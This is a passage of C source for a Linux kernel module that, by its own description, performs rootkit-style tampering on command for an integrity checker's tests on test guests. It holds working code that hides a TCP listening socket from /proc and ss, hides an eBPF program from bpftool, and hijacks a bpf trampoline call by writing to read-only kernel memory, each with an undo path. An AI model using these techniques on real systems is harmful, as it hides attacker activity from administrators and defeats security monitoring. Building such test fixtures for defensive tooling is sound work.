		cmd_status();
		ret = 0;
	} else
		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, idt, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, hidebpf, bpftramp, restore, status)",
			   verb);
	mutex_unlock(&tamper_lock);
	return ret ? ret : count;
}

static ssize_t tamper_read(struct file *file, char __user *ubuf, size_t count, loff_t *ppos)
{
	ssize_t n;

	mutex_lock(&tamper_lock);
	n = simple_read_from_buffer(ubuf, count, ppos, result, result_len);
	mutex_unlock(&tamper_lock);
	return n;
}

static const struct proc_ops tamper_proc_ops = {
	.proc_read = tamper_read,
	.proc_write = tamper_write,
	.proc_lseek = default_llseek,
};

static int __init tamper_init(void)
{
	int ret = find_lookup();

	if (ret) {
		pr_err(TAMPER_NAME ": cannot find kallsyms_lookup_name: %d\n", ret);
		return ret;
	}
	if (!proc_create(TAMPER_NAME, 0600, NULL, &tamper_proc_ops))
		return -ENOMEM;
	report("loaded module=0x%lx base=0x%lx kallsyms_lookup_name=0x%lx", (unsigned long)THIS_MODULE,
	       (unsigned long)MODULE_CORE_BASE(THIS_MODULE), (unsigned long)lookup);
	return 0;
}

static void __exit tamper_exit(void)
{
	remove_proc_entry(TAMPER_NAME, NULL);
	mutex_lock(&tamper_lock);
	undo_all();
	mutex_unlock(&tamper_lock);
}

module_init(tamper_init);
module_exit(tamper_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit-style attacks on command, for Periscope's integrity tests (test guests only)");

/*
 * hidesock PORT: what socket-hiding rootkits do to vanish from /proc/net/tcp and ss: the IPv4 TCP listener bound to
 * PORT is unhashed from tcp_hashinfo's listening hash (6.1: lhash2 buckets are hlist_nulls chains through
 * sk_nulls_node, under the bucket's lock). The socket stays open in its owner's file table. The node is left
 * unhashed-and-initialised (pprev NULL), which is what inet_unhash() expects of a socket that is not hashed, so a
 * close while hidden is harmless; a reference is held so that restore can relink it.
 */
static struct {
	bool active;
	struct sock *sk;   /* referenced while hidden */
	struct inet_listen_hashbucket *ilb2;
	unsigned short port;
	unsigned long ino;
} hs;

static int cmd_hidesock(char *arg)
{
	/* Exported in 6.1, not in 6.12: kallsyms has it in both. */
	struct inet_hashinfo *h = (struct inet_hashinfo *)lookup("tcp_hashinfo");
	unsigned int port, i;

	if (!h)
		return fail(-ENOENT, "error hidesock: tcp_hashinfo not found");

	if (!arg || kstrtouint(arg, 0, &port) || !port || port > 65535)
		return fail(-EINVAL, "error hidesock: usage: hidesock PORT");
	if (hs.active)
		return fail(-EBUSY, "error hidesock: port %u already hidden; restore first", hs.port);
	for (i = 0; i <= h->lhash2_mask; i++) {
		struct inet_listen_hashbucket *ilb2 = &h->lhash2[i];
		struct hlist_nulls_node *node;
		struct sock *sk;

		spin_lock(&ilb2->lock);
		sk_nulls_for_each(sk, node, &ilb2->nulls_head) {
			if (sk->sk_family != AF_INET || sk->sk_num != port || sk->sk_state != TCP_LISTEN)
				continue;
			sock_hold(sk);
			__sk_nulls_del_node_init_rcu(sk);
			spin_unlock(&ilb2->lock);
			hs.sk = sk;
			hs.ilb2 = ilb2;
			hs.port = port;
			hs.ino = sock_i_ino(sk);
			hs.active = true;
			report("hidesock %u sock=0x%lx inode=%lu bucket=%u", port, (unsigned long)sk, hs.ino, i);
			return 0;
		}
		spin_unlock(&ilb2->lock);
	}
	return fail(-ENOENT, "error hidesock: no IPv4 TCP listener on port %u", port);
}

static bool undo_hidesock(void)
{
	bool relinked = false;

	if (!hs.active)
		return false;
	spin_lock(&hs.ilb2->lock);
	/* Still listening and still unhashed as we left it: link it back. */
	if (hs.sk->sk_state == TCP_LISTEN && sk_unhashed(hs.sk)) {
		__sk_nulls_add_node_rcu(hs.sk, &hs.ilb2->nulls_head);
		relinked = true;
	}
	spin_unlock(&hs.ilb2->lock);
	report("restore hidesock %u sock=0x%lx %s", hs.port, (unsigned long)hs.sk, relinked ? "relinked" : "gone (closed)");
	sock_put(hs.sk);
	hs.active = false;
	return true;
}

/*
 * hidebpf ID: what eBPF rootkits do to vanish from bpftool: the program's id is removed from prog_idr (static in
 * kernel/bpf/syscall.c, found through kallsyms with its lock prog_idr_lock), so BPF_PROG_GET_NEXT_ID skips it, while
 * whatever it is attached to keeps running it. A reference is held while hidden, so the program cannot be freed with
 * a dangling id; restore puts it back under the same id (idr_alloc of exactly [ID, ID+1)).
 */
static struct {
	bool active;
	struct bpf_prog *prog;
	u32 id;
} hb;

static int cmd_hidebpf(char *arg)
{
	struct idr *idr = (struct idr *)lookup("prog_idr");
	spinlock_t *lock = (spinlock_t *)lookup("prog_idr_lock");
	struct bpf_prog *prog;
	unsigned long flags;
	unsigned int id;

	if (!arg || kstrtouint(arg, 0, &id) || !id || id > INT_MAX)
		return fail(-EINVAL, "error hidebpf: usage: hidebpf ID");
	if (hb.active)
		return fail(-EBUSY, "error hidebpf: program %u already hidden; restore first", hb.id);
	if (!idr || !lock)
		return fail(-ENOENT, "error hidebpf: kallsyms has no prog_idr or prog_idr_lock");
	spin_lock_irqsave(lock, flags);
	prog = idr_find(idr, id);
	if (prog) {
		bpf_prog_inc(prog);
		idr_remove(idr, id);
	}
	spin_unlock_irqrestore(lock, flags);
	if (!prog)
		return fail(-ENOENT, "error hidebpf: no program with id %u", id);
	hb.prog = prog;
	hb.id = id;
	hb.active = true;
	report("hidebpf %u prog=0x%lx", id, (unsigned long)prog);
	return 0;
}

static bool undo_hidebpf(void)
{
	struct idr *idr = (struct idr *)lookup("prog_idr");
	spinlock_t *lock = (spinlock_t *)lookup("prog_idr_lock");
	unsigned long flags;
	int got;

	if (!hb.active)
		return false;
	idr_preload(GFP_KERNEL);
	spin_lock_irqsave(lock, flags);
	got = idr_alloc(idr, hb.prog, hb.id, hb.id + 1, GFP_ATOMIC);
	spin_unlock_irqrestore(lock, flags);
	idr_preload_end();
	report("restore hidebpf %u prog=0x%lx %s", hb.id, (unsigned long)hb.prog, got == (int)hb.id ? "relinked" : "not relinked");
	bpf_prog_put(hb.prog);
	hb.active = false;
	return true;
}

/*
 * bpftramp SYMBOL: what a rootkit that owns kernel memory does to ride on a legitimate fentry program: SYMBOL's ftrace
 * site calls the image of its bpf trampoline; one call in that image, to the kernel's __bpf_prog_exit* (or enter*)
 * helper, is rewritten (its rel32, through the image's read-only mapping with CR0.WP cleared) to go to
 * tamper_tramp_helper, which counts and forwards to the real helper with the same arguments, so the guest keeps
 * working. The program stays listed in prog_idr and its own JIT code is untouched. `restore` puts the old rel32 back
 * if the image still holds ours; it must come before the program is detached, which frees the image.
 */
static struct {
	bool active;
	u8 *call;           /* the rewritten call instruction in the image */
	s32 old_rel, new_rel;
	unsigned long image;
	char sym[KSYM_NAME_LEN];
} bt;

typedef u64 (*tramp_helper_t)(u64, u64, u64, u64, u64, u64);
static tramp_helper_t bt_real;
static atomic64_t bt_hits = ATOMIC64_INIT(0);

/* Stands in for the rewritten helper: every helper a trampoline calls takes at most six integer arguments and returns
 * at most 64 bits in rax, so forwarding all six argument registers is the same call. */
static noinline notrace u64 tamper_tramp_helper(u64 a, u64 b, u64 c, u64 d, u64 e, u64 f)
{
	atomic64_inc(&bt_hits);
	return bt_real(a, b, c, d, e, f);
}

#define BPFTRAMP_SCAN 1024   /* an fentry trampoline with one program is ~150 bytes */

static int cmd_bpftramp(char *sym)
{
	static const char *const helpers[] = {
		"__bpf_prog_exit_recur", "__bpf_prog_exit", "__bpf_prog_exit_sleepable_recur", "__bpf_prog_exit_sleepable",
		"__bpf_prog_enter_recur", "__bpf_prog_enter", "__bpf_prog_enter_sleepable_recur", "__bpf_prog_enter_sleepable",
	};
	static u8 code[BPFTRAMP_SCAN];
	unsigned long func, site, image, target, helper = (unsigned long)tamper_tramp_helper;
	size_t have = 0, i, h;
	u8 insn[5];
	long rel;

	if (!sym)
		return fail(-EINVAL, "error bpftramp: usage: bpftramp SYMBOL");
	if (bt.active)
		return fail(-EBUSY, "error bpftramp: the trampoline of %s is already rewritten; restore first", bt.sym);
	func = lookup(sym);
	if (!func)
		return fail(-ENOENT, "error bpftramp: unknown symbol %s", sym);
	site = func;
	if (!copy_from_kernel_nofault(insn, (void *)func, 4) && !memcmp(insn, "\xf3\x0f\x1e\xfa", 4))
		site = func + 4;
	if (copy_from_kernel_nofault(insn, (void *)site, 5) || insn[0] != 0xe8)
		return fail(-ENOENT, "error bpftramp: %s's site 0x%lx does not call a trampoline (attach one program alone on it)", sym, site);
	image = site + 5 + (long)(s32)get_unaligned_le32(insn + 1);
	/* Read as much of the image as is mapped, in small steps (7.x packs images into shared pages). */
	while (have < sizeof(code) && !copy_from_kernel_nofault(code + have, (void *)(image + have), 64))
		have += 64;
	for (i = 0; i + 5 <= have; i++) {
		if (code[i] != 0xe8)
			continue;
		target = image + i + 5 + (long)(s32)get_unaligned_le32(code + i + 1);
		for (h = 0; h < ARRAY_SIZE(helpers); h++)
			if (target == lookup(helpers[h]))
				goto found;
	}
	return fail(-ENOENT, "error bpftramp: no call to a __bpf_prog_enter/exit helper in the %zu bytes read at image 0x%lx", have, image);
found:
	rel = (long)helper - (long)(image + i + 5);
	if (rel != (s32)rel)
		return fail(-ERANGE, "error bpftramp: tamper_tramp_helper 0x%lx is out of rel32 reach of image 0x%lx", helper, image);
	bt_real = (tramp_helper_t)target;
	bt.call = (u8 *)(image + i);
	bt.old_rel = (s32)get_unaligned_le32(code + i + 1);
	bt.new_rel = (s32)rel;
	bt.image = image;
	atomic64_set(&bt_hits, 0);
	if (write_ro(bt.call + 1, &bt.new_rel, sizeof(bt.new_rel)))
		return fail(-EOPNOTSUPP, "error bpftramp: CR4.CET is set, cannot clear CR0.WP");
	strscpy(bt.sym, sym, sizeof(bt.sym));
	bt.active = true;
	report("bpftramp %s site=0x%lx image=0x%lx call=0x%lx offset=0x%zx old=0x%lx (%s) new=0x%lx", sym, site, image,
	       (unsigned long)bt.call, i, target, helpers[h], helper);
	return 0;
}

static bool undo_bpftramp(void)
{
	s32 now;

	if (!bt.active)
		return false;
	if (!copy_from_kernel_nofault(&now, bt.call + 1, sizeof(now)) && now == bt.new_rel &&
	    !write_ro(bt.call + 1, &bt.old_rel, sizeof(bt.old_rel)))
		report("restore bpftramp %s call=0x%lx hits=%lld", bt.sym, (unsigned long)bt.call, atomic64_read(&bt_hits));
	else
		report("restore bpftramp %s call=0x%lx changed by someone else (or freed), left alone", bt.sym, (unsigned long)bt.call);
	bt.active = false;
	return true;
}
